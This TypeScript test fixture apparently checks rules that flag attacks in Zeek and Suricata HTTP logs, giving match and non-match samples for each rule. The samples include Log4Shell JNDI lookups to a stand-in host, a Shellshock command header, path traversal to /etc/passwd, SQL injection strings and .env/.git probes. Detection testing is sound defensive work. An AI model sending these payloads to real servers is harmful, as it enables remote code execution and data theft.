import { eve, type Line, type Samples, times, zeek } from '../records.ts';

const get = (more: Line, n = 0) =>
  zeek('http', { method: 'GET', host: 'www.example', uri: '/', status_code: 200, ...more }, n);
const eveGet = (more: Line, n = 0) =>
  eve('http', { http: { http_method: 'GET', hostname: 'www.example', url: '/', status: 200, ...more } }, n);

export default {
  'Log4Shell / JNDI injection (CVE-2021-44228)': {
    matches: [
      [get({ user_agent: '${' + 'jndi:ldap://x.example/a}' })],
      [get({ uri: '/?q=%24%7Bjndi:ldap://x%7D' })],
      [eveGet({ http_refer: '${' + 'jndi:dns://x.example}' })],
    ],
    spares: [[get({ uri: '/docs/jndi:lookup' })], [get({ user_agent: '${' + 'name}' })]],
  },
  'Shellshock (CVE-2014-6271)': {
    matches: [[get({ user_agent: '() { :;}; /bin/id' })], [eveGet({ http_refer: '() { :;}; x' })]],
    spares: [[get({ user_agent: 'a () { b' })], [get({ uri: '/() {' })]],
  },
  'Path traversal / LFI attempt': {
    matches: [
      [get({ uri: '/../../../etc/hosts' })],
      [get({ uri: '/?f=/etc/passwd' })],
      [eveGet({ url: '/..%2F..%2Fx' })],
    ],
    spares: [[get({ uri: '/a/../b' })], [get({ uri: '/passwd' })]],
  },
  'SQL injection attempt': {
    matches: [[get({ uri: '/?id=1+UNION+SELECT+1' })], [eveGet({ url: "/?id=1'%20or%201=1" })]],
    spares: [[get({ uri: '/?q=trade+union+news' })], [get({ uri: '/select' })]],
  },
  'Secrets or source repository exposed by a web server (.env, .git)': {
    matches: [[get({ uri: '/.env' })], [eveGet({ url: '/app/.git/config' })]],
    spares: [[get({ uri: '/.env', status_code: 404 })], [get({ uri: '/?f=/.env' })], [get({ uri: '/.environment' })]],
  },
  'HTTP 404': {
    matches: [[get({ status_code: 404 })], [eveGet({ status: 404 })]],
    spares: [[get({})], [get({ uri: '/404' })]],
  },
  'Web content scanning (directory brute force)': {
    matches: [
      times(100, (n) => get({ uri: `/${n}`, status_code: 404 }, n)),
      times(100, (n) => eveGet({ url: `/${n}`, status: 404 }, n)),
    ],
    spares: [
      times(99, (n) => get({ uri: `/${n}`, status_code: 404 }, n)),
      times(100, (n) => get({ uri: '/favicon.ico', status_code: 404 }, n)),
      times(100, (n) => get({ uri: `/${n}` }, n)),
    ],
  },
} satisfies Samples;
